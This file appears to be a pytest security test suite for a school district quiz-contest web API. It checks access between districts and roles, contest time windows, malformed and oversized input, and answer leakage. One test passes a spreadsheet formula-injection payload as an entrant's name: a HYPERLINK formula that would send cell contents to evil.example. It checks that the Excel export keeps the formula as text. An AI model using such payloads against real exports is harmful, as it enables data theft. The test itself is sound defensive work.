"""The contest as an attacker tries it: other districts' contests, rounds and entries, wrong
roles, the window, answers not drawn, malformed and huge bodies, a staff member's phone on
the public form, reading another's entry, the right options before the round closes, an open
round's standings on the announcement, and formulas in the export."""

from __future__ import annotations

import io
from datetime import timedelta

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from app.authz import Role
from app.contests.entries import entry_key
from app.contests.models import ContestEntry
from app.quizzes.models import QuizQuestion
from tests.api import test_contests as base
from tests.api.test_contests import (
    CLOSES,
    OPENS,
    contest_body,
    enter,
    link_base,
    public_start,
    right_answers,
    submit,
)
from tests.factories import login_token, make_org, make_participant, make_plan, make_user

clock, plan, contest = base.clock, base.plan, base.contest  # the contest tests' fixtures


@pytest.fixture
def far_contest(client, db, world, plan, clock) -> dict:
    """Another district's contest, on its own plan and bank, set up by its own organiser."""
    far_district = make_org(db, "pgd-lien-chieu", "Phòng GDĐT quận Liên Chiểu", kind="district")
    make_org(db, "th-lien-chieu", "Trường Tiểu học Liên Chiểu", far_district)
    far_plan = make_plan(db, far_district)
    db.add(QuizQuestion(plan_id=far_plan.id, text="Câu hỏi", options=["A", "B"], correct=[0]))
    organiser = make_user(db, "lc-manager", far_district, Role.MANAGER)
    world.tokens["far_organiser"] = login_token(db, organiser)
    db.commit()
    made = client.post(
        f"/api/v1/plans/{far_plan.id}/contests",
        json=contest_body(),
        headers=world.headers("far_organiser"),
    )
    assert made.status_code == 201, made.text
    return made.json()


def test_another_districts_contest_round_and_entry_are_not_found(
    client, db, world, contest, far_contest, clock
):
    far_round = far_contest["rounds"][0]["id"]
    organiser = world.headers("organiser")
    assert client.get(f"/api/v1/contests/{far_contest['id']}", headers=organiser).status_code == 404
    board = f"/api/v1/contests/{contest['id']}/rounds/{far_round}/leaderboard"
    for by in ("people", "schools", "districts"):
        assert client.get(f"{board}/{by}", headers=organiser).status_code == 404, by
    clock.set(OPENS)
    # This contest's public link does not reach the other's round, nor a staff link it.
    public_start(client, contest, far_round, 404)
    enter(client, link_base(db, world.teacher), far_round, 404)
    # The other's entry, by this contest's public link and the other's own key: a guess.
    theirs = public_start(client, far_contest, far_round, phone="0977000111")
    mixed = f"/api/v1/contests/public/{contest['public_token']}/entries/{theirs['key']}"
    assert client.get(mixed).status_code == 404


def test_wrong_roles_are_refused(client, world, contest):
    url = f"/api/v1/contests/{contest['id']}"
    body = contest_body(title="Đổi tên")
    # The district's viewer reads the contest but may not change or publish it.
    assert client.get(url, headers=world.headers("viewer")).status_code == 200
    assert client.put(url, json=body, headers=world.headers("viewer")).status_code == 403
    assert client.post(f"{url}/publish", headers=world.headers("viewer")).status_code == 403
    # A school's admin and a teacher signed in are below the district: none of theirs.
    for who in ("admin", "member"):
        assert client.get(url, headers=world.headers(who)).status_code == 404, who
        assert client.put(url, json=body, headers=world.headers(who)).status_code == 404, who
        assert client.get(f"{url}/results.xlsx", headers=world.headers(who)).status_code == 404
    # A token holding only reports:read ranks the contest but does not write it.
    assert client.put(url, json=body, headers=world.headers("token")).status_code == 403


def test_the_public_form_refuses_outside_the_window(client, db, contest, clock):
    round_id = contest["rounds"][0]["id"]
    early = public_start(client, contest, round_id, 409)
    assert "chưa mở" in early["detail"]
    clock.set(CLOSES)
    late = public_start(client, contest, round_id, 409)
    assert "đã kết thúc" in late["detail"]
    assert db.exec(sa.select(sa.func.count()).select_from(ContestEntry)).one()[0] == 0


def test_only_the_drawn_questions_and_their_options_are_answered(client, db, world, contest, clock):
    clock.set(OPENS)
    base = link_base(db, world.teacher)
    entry = enter(client, base, contest["rounds"][0]["id"])
    url = f"{base}/entries/{entry['id']}"
    drawn = {q["id"] for q in entry["questions"]}
    not_drawn = max(drawn) + 1000
    first = entry["questions"][0]["id"]
    for answers, field in (
        ([{"question_id": not_drawn, "chosen": [0]}], "body.answers.0.question_id"),
        ([{"question_id": first, "chosen": [7]}], "body.answers.0.chosen"),
        ([{"question_id": first, "chosen": [0, 1]}], "body.answers.0.chosen"),  # single choice
        ([{"question_id": first, "chosen": [0, 0]}], "body.answers.0.chosen"),
        ([{"question_id": first, "chosen": [-1]}], "body.answers.0.chosen"),
    ):
        refused = client.put(f"{url}/answers", json={"answers": answers})
        assert refused.status_code == 422, answers
        assert refused.json()["errors"][0]["field"] == field
    for body in (
        {"answers": [{"question_id": first, "chosen": list(range(9))}]},
        {"answers": [{"question_id": first, "chosen": [0]}] * 101},
        {"answers": [], "tiebreak": -1},
        {"answers": [], "tiebreak": 10**9},
        {"answers": [], "tiebreak": "nhiều"},
        {"answers": [], "score": 3},
    ):
        assert client.post(f"{url}/submit", json=body).status_code == 422, body
    # A submit naming a question not drawn scores nothing: the entry is still running.
    bad = client.post(
        f"{url}/submit", json={"answers": [{"question_id": not_drawn, "chosen": [0]}]}
    )
    assert bad.status_code == 422
    assert db.get(ContestEntry, entry["id"]).status == "running"


def test_answers_after_the_deadline_are_refused_and_a_second_tab_cannot_reopen(
    client, db, world, contest, clock
):
    clock.set(OPENS)
    base = link_base(db, world.teacher)
    round_id = contest["rounds"][0]["id"]
    entry = enter(client, base, round_id)
    url = f"{base}/entries/{entry['id']}"
    done = submit(client, url, right_answers(db, entry["id"], wrong=2), 4)
    # The second tab saves answers and resubmits: the first result stands.
    assert (
        client.put(f"{url}/answers", json={"answers": right_answers(db, entry["id"])}).status_code
        == 409
    )
    assert submit(client, url, right_answers(db, entry["id"]), 5)["result"] == done["result"]
    assert enter(client, base, round_id)["result"] == done["result"]

    colleague = link_base(db, world.colleague)
    theirs = enter(client, colleague, round_id)
    clock.move(minutes=30)  # past her time limit of 10 minutes
    late = client.put(
        f"{colleague}/entries/{theirs['id']}/answers",
        json={"answers": right_answers(db, theirs["id"])},
    )
    assert late.status_code == 409 and "hết giờ" in late.json()["detail"]
    assert db.get(ContestEntry, theirs["id"]).score == 0


def test_an_entry_is_its_entrants_alone(client, db, world, contest, clock):
    clock.set(OPENS)
    round_id = contest["rounds"][0]["id"]
    mine = enter(client, link_base(db, world.teacher), round_id)
    other = link_base(db, world.colleague)
    url = f"{other}/entries/{mine['id']}"
    assert client.get(url).status_code == 404
    assert client.put(f"{url}/answers", json={"answers": []}).status_code == 404
    assert client.post(f"{url}/submit", json={"answers": []}).status_code == 404
    signed_in = f"/api/v1/me/contests/entries/{mine['id']}"
    assert client.get(signed_in, headers=world.headers("member")).status_code == 200
    assert client.get(signed_in, headers=world.headers("admin")).status_code == 404
    # A staff entry is never reached by the public link, even with its right key.
    public = f"/api/v1/contests/public/{contest['public_token']}/entries"
    assert client.get(f"{public}/{entry_key(mine['id'])}").status_code == 404
    # A guest's key is hers: another id with her key's hash is a guess.
    guest = public_start(client, contest, round_id)
    forged = f"{mine['id']}-{guest['key'].partition('-')[2]}"
    assert client.get(f"{public}/{forged}").status_code == 404
    assert client.get(f"{public}/{guest['key']}").status_code == 200


def test_nothing_shows_the_right_options_before_the_round_closes(client, db, world, contest, clock):
    clock.set(OPENS)
    base = link_base(db, world.teacher)
    entry = enter(client, base, contest["rounds"][0]["id"])
    url = f"{base}/entries/{entry['id']}"
    answers = right_answers(db, entry["id"], wrong=1)
    seen = [
        client.put(f"{url}/answers", json={"answers": answers[:1]}),
        client.post(f"{url}/submit", json={"answers": answers, "tiebreak": 3}),
        client.get(url),
        client.get(base),
        client.get(f"/api/v1/contests/public/{contest['public_token']}"),
    ]
    for response in seen:
        assert response.status_code == 200, response.text
        assert '"correct"' not in response.text and "explanation" not in response.text
    assert seen[1].json()["result"]["score"] == 2 and seen[1].json()["result"]["questions"] is None
    clock.set(CLOSES)
    after = client.get(url).json()["result"]["questions"]
    assert [q["right"] for q in after] == [False, True, True]


def test_a_staff_members_phone_enters_by_her_link_only(client, db, world, contest, clock):
    """One entry per person per round: her phone on the public form is refused, whoever
    types it and however it is written; a phone of staff elsewhere, or none, is a guest's."""
    world.teacher.phone = "0905111222"
    world.far_teacher.phone = "0905333444"
    db.add_all([world.teacher, world.far_teacher])
    db.commit()
    clock.set(OPENS)
    round_id = contest["rounds"][0]["id"]
    for name, phone in (
        ("Nguyễn Thị Mai", "0905111222"),
        ("Kẻ Mạo Danh", "+84 905 111 222"),
        ("Nguyễn Thị Mai", "84905111222"),
    ):
        refused = public_start(client, contest, round_id, 409, full_name=name, phone=phone)
        assert "đường dẫn cá nhân" in refused["detail"] and "personal link" in refused["detail"]
    assert enter(client, link_base(db, world.teacher), round_id)["status"] == "running"
    assert public_start(client, contest, round_id, phone="0905333444")["status"] == "running"
    assert db.exec(sa.select(sa.func.count()).select_from(ContestEntry)).one()[0] == 2


@pytest.mark.parametrize(
    ("person", "field"),
    [
        ({"full_name": "N" * 201}, "body.full_name"),
        ({"full_name": "Nguyễn\u202eiaM"}, "body.full_name"),  # right-to-left override
        ({"full_name": "Nguyễn\u200bThị Mai"}, "body.full_name"),  # zero-width space
        ({"full_name": "Nguyễn\x00Mai"}, "body.full_name"),
        ({"full_name": "Nguyễn\x07Mai"}, "body.full_name"),
        ({"full_name": "12 34"}, "body.full_name"),
        ({"full_name": "   "}, "body.full_name"),
        ({"phone": "090512345"}, "body.phone"),
        ({"phone": "09051234567"}, "body.phone"),
        ({"phone": "abcdefghij"}, "body.phone"),
        ({"phone": "0" * 21}, "body.phone"),
        ({"phone": "+1 202 555 0123"}, "body.phone"),
        ({"school_name": "S" * 201}, "body.school_name"),
        ({"school_name": "Trường\u2066X"}, "body.school_name"),
        ({"school_name": "   "}, "body.school_name"),
        ({"school_id": 10**9}, "body.school_id"),
    ],
)
def test_the_public_form_refuses_malformed_people(client, db, contest, clock, person, field):
    clock.set(OPENS)
    refused = public_start(client, contest, contest["rounds"][0]["id"], 422, **person)
    assert field in {error["field"] for error in refused["errors"]}
    assert db.exec(sa.select(sa.func.count()).select_from(ContestEntry)).one()[0] == 0


def test_the_public_form_takes_a_school_of_the_list_only(client, db, world, contest, clock):
    """The district itself is in the organiser's tree but is no school of the form's list."""
    clock.set(OPENS)
    round_id = contest["rounds"][0]["id"]
    refused = public_start(client, contest, round_id, 422, school_id=world.district.id)
    assert refused["errors"][0]["field"] == "body.school_id"
    made = public_start(client, contest, round_id, school_id=world.other_school.id)
    assert made["school_name"] == world.other_school.name


def test_a_huge_body_is_refused_before_it_is_read(client, contest, clock):
    clock.set(OPENS)
    round_id = contest["rounds"][0]["id"]
    url = f"/api/v1/contests/public/{contest['public_token']}/rounds/{round_id}/entries"
    huge = b'{"full_name": "' + b"A" * (11 * 1024 * 1024) + b'", "phone": "0905123456"}'
    refused = client.post(url, content=huge, headers={"Content-Type": "application/json"})
    assert refused.status_code == 413
    assert refused.headers["content-type"].startswith("application/problem+json")


def test_the_announcement_leaves_out_a_round_still_open(client, db, world, plan, clock):
    second = {
        "opens_at": (CLOSES + timedelta(days=1)).isoformat(),
        "closes_at": (CLOSES + timedelta(days=3)).isoformat(),
        "question_count": 3,
        "time_limit_minutes": 10,
        "tiebreak_question": "Dự đoán số người tham gia vòng 2",
    }
    made = client.post(
        f"/api/v1/plans/{plan.id}/contests",
        json=contest_body(rounds=[contest_body()["rounds"][0], second]),
        headers=world.headers("organiser"),
    ).json()
    first_id, second_id = (r["id"] for r in made["rounds"])
    clock.set(OPENS)
    guest = public_start(client, made, first_id)
    public = f"/api/v1/contests/public/{made['public_token']}"
    submit(client, f"{public}/entries/{guest['key']}", right_answers(db, guest["id"]), 1)
    clock.set(CLOSES + timedelta(days=1, hours=1))
    other = public_start(client, made, second_id, phone="0912345678", full_name="Hồ Văn Hai")
    submit(client, f"{public}/entries/{other['key']}", right_answers(db, other["id"]), 1)
    assert (
        client.post(
            f"/api/v1/contests/{made['id']}/publish", headers=world.headers("organiser")
        ).status_code
        == 200
    )
    shown = client.get(f"{public}/results").json()
    assert [r["round"]["number"] for r in shown["rounds"]] == [1]
    assert "Hồ Văn Hai" not in str(shown)
    assert [r["number"] for r in shown["contest"]["rounds"]] == [1, 2]  # its window still shows
    clock.set(CLOSES + timedelta(days=3))
    shown = client.get(f"{public}/results").json()
    assert [r["round"]["number"] for r in shown["rounds"]] == [1, 2]


def test_the_export_keeps_a_formula_typed_as_a_name_as_text(client, db, world, contest, clock):
    clock.set(OPENS)
    round_id = contest["rounds"][0]["id"]
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
    guest = public_start(
        client,
        contest,
        round_id,
        full_name=formula,
        school_name="+SUM(1;2) Trường",
        phone="0912000333",
    )
    public = f"/api/v1/contests/public/{contest['public_token']}"
    submit(client, f"{public}/entries/{guest['key']}", right_answers(db, guest["id"]), 1)
    clock.set(CLOSES)
    response = client.get(
        f"/api/v1/contests/{contest['id']}/results.xlsx", headers=world.headers("organiser")
    )
    assert response.status_code == 200, response.text
    book = load_workbook(io.BytesIO(response.content))
    name, school = book["Cá nhân"]["C2"], book["Cá nhân"]["D2"]
    assert (name.value, name.data_type) == (formula, "s") and name.quotePrefix
    assert (school.value, school.data_type) == ("+SUM(1;2) Trường", "s") and school.quotePrefix
    group = book["Trường"]["C2"]
    assert group.data_type == "s" and group.value == "+SUM(1;2) Trường"


def test_a_draft_plans_contest_is_not_public(client, db, world, clock):
    """Set up on a plan still in draft: its public link and its rounds are nobody's yet."""
    draft = make_plan(db, world.district, status="draft")
    db.add(QuizQuestion(plan_id=draft.id, text="Câu hỏi", options=["A", "B"], correct=[0]))
    organiser = make_user(db, "pgd-organiser", world.district, Role.MANAGER)
    world.tokens["draft_organiser"] = login_token(db, organiser)
    teacher = make_participant(db, world.school, "Phạm Thị Thu", "GV009")
    db.commit()
    made = client.post(
        f"/api/v1/plans/{draft.id}/contests",
        json=contest_body(),
        headers=world.headers("draft_organiser"),
    ).json()
    clock.set(OPENS)
    assert client.get(f"/api/v1/contests/public/{made['public_token']}").status_code == 404
    public_start(client, made, made["rounds"][0]["id"], 404)
    enter(client, link_base(db, teacher), made["rounds"][0]["id"], 404)


def test_an_invited_persons_score_waits_for_the_round_to_close(client, db, contest, clock):
    """Anyone may enter with as many phones as she likes: a score per entry while the round
    runs would tell, entry by entry, which options are right."""
    clock.set(OPENS)
    guest = public_start(client, contest, contest["rounds"][0]["id"])
    url = f"/api/v1/contests/public/{contest['public_token']}/entries/{guest['key']}"
    done = submit(client, url, right_answers(db, guest["id"], wrong=1), 9)
    assert done["result"]["score"] is None and done["result"]["questions"] is None
    assert done["result"]["duration_ms"] == 0 and done["result"]["tiebreak"] == 9
    assert client.get(url).json()["result"]["score"] is None
    clock.set(CLOSES)
    assert client.get(url).json()["result"]["score"] == 2
